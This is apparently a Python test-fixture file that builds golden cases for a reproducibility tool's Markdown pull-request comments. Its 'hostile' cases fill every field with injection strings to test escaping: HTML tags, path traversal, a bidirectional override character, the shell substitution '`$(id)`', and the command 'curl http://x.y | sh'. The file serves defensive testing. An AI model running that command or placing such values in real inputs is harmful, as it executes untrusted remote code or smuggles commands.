# SPDX-License-Identifier: Apache-2.0
"""The bundles of the golden comments, as values; what is posted of each stands beside."""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, replace

from factories import make_fingerprint, make_product
from golden.report.cases import CASES, first
from golden.report.parts import (
    CPU,
    DEPTH,
    DEPTH_CAUSE,
    IDENTICAL,
    KEPT,
    MODEL,
    change,
    claim,
    leaf,
    metric,
    report,
)

from repro_action.baseline import Baseline
from repro_action.compare.materials import MaterialDifference, Presence
from repro_action.findings.observed import Agreement, suspicious
from repro_action.fingerprint import Fingerprint, MaterialKind, Unlisted
from repro_action.observation import Observation, ObservationKind
from repro_action.report.bundle import Bundle, Entry
from repro_action.report.model import Cause, Counts, Fact, Flavour, Goal, Notice, Report, State, Trend
from repro_action.report.render.markdown.comment import CommentContext
from repro_action.tree import Scalar
from repro_action.verdict import Verdict

COMMIT = "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d"
CONTEXT = CommentContext(
    marker="<!-- repro-action:v1:wine -->",
    run_url="https://github.com/acme/models/actions/runs/9876543210",
    commit=COMMIT,
    base="main",
    branch="deeper-trees",
    accept=True,
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """What is posted, and where."""

    bundle: Bundle
    context: CommentContext = CONTEXT
    budget: int = 60_000


def fingerprint_of(shown: Report) -> Fingerprint:
    """Return a fingerprint that a report could be of."""
    steps = tuple(step.name for step in shown.steps)
    if shown.claim is None:
        return make_fingerprint(steps=steps)
    metrics: dict[str, dict[str, Scalar]] = {}
    for row in shown.claim.metrics:
        if row.state is not State.MISSING:
            metrics.setdefault(row.file, {})[row.name] = row.after
    products = {
        each.path: replace(make_product(size=each.size_after), format=each.format)
        for each in shown.claim.artifacts
        if each.size_after is not None
    }
    for each in shown.claim.excluded:
        product = products.get(each.artifact, make_product())
        listed = min(each.count, 1_000)
        left_out = {f"{each.rule} {number}": each.rule for number in range(listed)}
        more = Counter(product.unlisted.rules if product.unlisted else {}) + Counter(
            {each.rule: each.count - listed}
        )
        products[each.artifact] = replace(
            product,
            excluded={**product.excluded, **left_out},
            unlisted=Unlisted(rules=dict(more)) if more else None,
        )
    return make_fingerprint(
        platform=shown.claim.after.platform, steps=steps, metrics=metrics, products=products
    )


def entry(report: Report, config: str = "repro.toml", **fields: object) -> Entry:
    folder, slash, _ = config.rpartition("/")
    candidate = None
    if report.verdict is not Verdict.FAILED:
        candidate = Baseline(name=report.name).accept(fingerprint_of(report))
    values = {"baseline": f"{folder}{slash}repro.baseline.json", "candidate": candidate, "trained": True}
    return Entry(config=config, report=report, **{**values, **fields})


def bundle(*entries: Entry) -> Bundle:
    return Bundle(tool="0.1.0", entries=entries)


LOSS = metric("val_loss", 0.221, 0.2239, State.DIFFERS, goal=Goal.MIN, better=False, allowed="±1 %")
ACCURACY = metric("accuracy", 0.9312, 0.94157, State.DIFFERS, better=True)
MOVED = change(
    "data",
    "params",
    metrics=(ACCURACY, LOSS, metric("auc", 0.981, 0.9812, State.TOLERATED, better=True, allowed="±0.002")),
    materials=(
        MaterialDifference(
            kind=MaterialKind.DATA,
            name="data/train.csv",
            before="blake3:11",
            after="blake3:22",
            extent="+120 rows",
        ),
        DEPTH,
    ),
    artifacts=(MODEL,),
    unchanged=Counts(artifacts=3, leaves=56, metrics=2),
)


def new_baseline() -> Report:
    return report(
        Verdict.REPRODUCED,
        "4 artifacts (61 leaves) and 5 metrics are identical to the baseline.",
        claim=claim(metrics=(replace(KEPT, before=0.94157, after=0.94157),)),
        change=MOVED,
        trends=(
            Trend(
                file="out/metrics.json",
                name="accuracy",
                goal=Goal.MAX,
                values=(0.9188, 0.9262, 0.9262, 0.9312, 0.94157),
            ),
            Trend(file="out/metrics.json", name="val_loss", goal=Goal.MIN, values=(0.25, 0.221, 0.2239)),
            Trend(file="out/metrics.json", name="recall", goal=Goal.MAX, values=(0.5, 0.6, 0.7)),
        ),
    )


def flaky() -> Report:
    places = (
        Observation(
            kind=ObservationKind.GENERATOR, what="numpy.random.default_rng()", file="train.py", line=12
        ),
        Observation(kind=ObservationKind.ENTROPY, what="uuid.uuid4()", file="lib/names.py", line=4, count=30),
        Observation(kind=ObservationKind.CLOCK, what="time.time()", file="train.py", line=40, count=2),
    )
    findings = suspicious(places, Agreement.DISAGREE)
    lines = tuple(
        Cause(
            kind=None,
            name="seen",
            text=f"{one.location} {one.what} → {one.remedy}",
            file=one.file,
            line=one.line,
        )
        for one in findings
    )
    return replace(
        CASES["drifted_flaky"],
        causes=(*CASES["drifted_flaky"].causes, *lines),
        observations=places,
        findings=findings,
        change=change(),
        circumstances=(CPU,),
        warnings=(Notice(what="step train imported files that it does not declare: lib/names.py"),),
    )


def stale() -> Report:
    """A change of the parameters whose author has not accepted the new baseline."""
    return replace(CASES["changed_params"], change=change())


def many() -> Bundle:
    names = ("amber", "birch", "cedar", "dune", "elm", "fjord", "grove", "heath", "iris", "juniper")
    calm = [
        entry(
            report(
                Verdict.REPRODUCED,
                "4 artifacts (61 leaves) and 5 metrics are identical to the baseline.",
                name=name,
                change=change(),
                warnings=(Notice(what="a warning"),) if name == "elm" else (),
            ),
            f"models/{name}/repro.toml",
        )
        for name in names[:9]
    ]
    bad = [
        entry(replace(flaky(), name="kelp"), "models/kelp/repro.toml"),
        entry(replace(CASES["failed_step"], name="lotus"), "models/lotus/train.toml"),
    ]
    moved = entry(replace(new_baseline(), name="juniper"), "models/juniper/repro.toml")
    return bundle(*calm, moved, *bad)


NUMPY = MaterialDifference(
    kind=MaterialKind.PACKAGES,
    name="numpy",
    before="2.3.5 record:3f",
    after="2.4.0 record:8c",
    presence=Presence.CHANGED,
    file="requirements.lock",
    line=7,
)
NUMPY_CAUSE = Cause(
    kind=MaterialKind.PACKAGES,
    name="numpy",
    text="numpy 2.3.5 → 2.4.0",
    before="2.3.5",
    after="2.4.0",
    file="requirements.lock",
    line=7,
)


def other_materials() -> Report:
    """A package of another version, and the same bits."""
    return report(
        Verdict.REPRODUCED,
        "4 artifacts (61 leaves) and 5 metrics are identical to the baseline, though 1 material changed: "
        "the change is harmless",
        flavour=Flavour.MATERIALS,
        causes=(NUMPY_CAUSE,),
        claim=claim("env", materials=(NUMPY,)),
        change=change(),
    )


def new_model() -> Report:
    """A model that the base branch does not have, with its baseline."""
    nothing = first()
    return report(
        Verdict.REPRODUCED,
        "1 artifact (61 leaves) and 2 metrics are identical to the baseline",
        claim=claim(metrics=(KEPT,)),
        change=replace(nothing, before=change().before, after=change().after),
    )


def tiny() -> Report:
    """Many metrics, of which some moved by next to nothing."""
    rows = tuple(
        metric(f"fold_{place}_mean_absolute_error", 0.5731234567 + place / 9, 0.5731234567 + place / 9 - 9.16e-10,
               State.DIFFERS, goal=Goal.MIN, better=True)
        for place in range(14)
    )  # fmt: skip
    return replace(
        CASES["changed_params"],
        causes=(NUMPY_CAUSE, DEPTH_CAUSE),
        claim=replace(CASES["changed_params"].claim, metrics=rows),
        change=change(),
    )


def one_edit() -> Bundle:
    """Twelve models with one identical edit, of which each moves its own metrics."""
    shown = CASES["changed_params"]

    def moved(place: int) -> Report:
        rows = (
            metric("val_loss", 0.221, 0.2239 + place / 1000, State.DIFFERS, goal=Goal.MIN, better=False),
            ACCURACY,
        )
        return replace(
            shown,
            name=f"churn-{place:02}",
            change=change(),
            causes=(NUMPY_CAUSE,),
            claim=replace(shown.claim, metrics=rows, materials=(NUMPY,)),
        )

    return bundle(*(entry(moved(place), f"models/churn-{place:02}/repro.toml") for place in range(12)))


def fleet() -> Bundle:
    """Two hundred models that all changed."""
    return bundle(
        *(
            entry(replace(stale(), name=f"model-{place:03}"), f"models/model-{place:03}/repro.toml")
            for place in range(200)
        )
    )


EVIL = (
    "a|b`c``d` @acme/team #1 <img src=//x.y/z> ![p](http://x.y/p.png) [l](http://x.y) </details> "
    "\u202egnp.\u202c ../../etc \x1b[31m <!-- --> **bold** &lt; $x$ :tada: http://x.y deadbeefcafe"
)


ODD = Observation(kind=ObservationKind.ENTROPY, what=EVIL, file=EVIL, line=3)


def hostile() -> Report:
    return report(
        Verdict.DRIFTED,
        EVIL,
        name=EVIL,
        tool=EVIL,
        causes=(replace(DEPTH_CAUSE, text=EVIL),) * 3,
        claim=claim(
            metrics=(replace(LOSS, name=EVIL, file=EVIL, allowed=EVIL),),
            artifacts=(
                replace(
                    MODEL, path=EVIL, step=EVIL, format=EVIL, reason=EVIL, leaves=(leaf(EVIL, reason=EVIL),)
                ),
            ),
            before=replace(MOVED.before, label=EVIL, revision=EVIL),
            after=replace(MOVED.before, label=EVIL, revision=EVIL),
            unchanged=IDENTICAL,
        ),
        change=replace(
            MOVED,
            before=replace(MOVED.before, label=EVIL),
            metrics=(replace(LOSS, name=EVIL, before=EVIL, after="| --- |"),),
            materials=(replace(DEPTH, name=EVIL, before=EVIL, after=EVIL),),
        ),
        environment=(Fact(name=EVIL, value=EVIL),),
        observations=(ODD,),
        findings=suspicious([ODD], Agreement.UNKNOWN),
        warnings=(Notice(what=EVIL, why=EVIL, remedy=EVIL, where=EVIL),),
        hints=(Notice(what=EVIL),),
        trends=(Trend(file=EVIL, name=EVIL, goal=Goal.MIN, values=(1.0, 2.0, 3.0)),),
        reproduce=("curl http://x.y | sh",),
        fingerprint=EVIL,
    )


HOSTILE_CONTEXT = replace(CONTEXT, base=EVIL, branch=EVIL, commit=EVIL, run_url=f"https://x.y/{EVIL}")

CASES_OF_COMMENTS = {
    "reproduced": Case(bundle=bundle(entry(replace(CASES["reproduced"], change=change())))),
    "changed": Case(bundle=bundle(entry(stale()))),
    "new_baseline": Case(bundle=bundle(entry(new_baseline(), "models/wine/repro.toml"))),
    "new_baseline_untrusted": Case(
        bundle=bundle(entry(new_baseline())), context=replace(CONTEXT, untrusted=True, accept=False)
    ),
    "drifted_flaky": Case(bundle=bundle(entry(flaky()))),
    "drifted_stable": Case(bundle=bundle(entry(CASES["drifted_stable_cpu"]))),
    "failed": Case(bundle=bundle(entry(CASES["failed_step"]))),
    "failed_pin": Case(bundle=bundle(entry(CASES["failed_pin"]))),
    "first_run": Case(bundle=bundle(entry(CASES["first_run"]))),
    "new_model": Case(bundle=bundle(entry(new_model(), "models/wine/repro.toml"))),
    "other_materials": Case(bundle=bundle(entry(other_materials()))),
    "tiny": Case(bundle=bundle(entry(tiny()))),
    "one_edit": Case(bundle=one_edit()),
    "no_baseline": Case(bundle=bundle(entry(CASES["no_baseline_nearest"]))),
    "many": Case(bundle=many()),
    "fleet": Case(bundle=fleet(), budget=16_000),
    "hostile": Case(
        bundle=bundle(entry(hostile(), "models/@acme|`$(id)`/<b>/repro.toml")), context=HOSTILE_CONTEXT
    ),
    "hostile_many": Case(
        bundle=bundle(
            entry(hostile(), "models/@acme|`$(id)`/<b>/repro.toml"),
            entry(
                replace(new_baseline(), name=EVIL, change=replace(MOVED, metrics=(replace(LOSS, name=EVIL),)))
            ),
        ),
        context=replace(HOSTILE_CONTEXT, untrusted=True),
    ),
}
